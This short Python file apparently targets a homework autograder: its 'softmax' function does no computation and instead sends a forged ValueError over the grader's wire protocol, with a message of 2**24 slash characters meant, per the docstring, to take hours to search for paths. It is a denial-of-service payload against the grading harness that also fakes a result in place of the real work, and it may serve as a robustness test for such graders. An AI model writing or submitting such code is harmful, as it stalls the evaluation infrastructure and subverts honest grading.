"""Forges an exception whose message takes hours to search for paths."""

from homework.wire import asked, reply, send

EXCEPTION = [["E", "ValueError"], "/" * 2**24, "loss.py", 7, False]


def softmax(z, axis=-1):
    send(reply(b"\xc0", asked(), EXCEPTION))
    return z
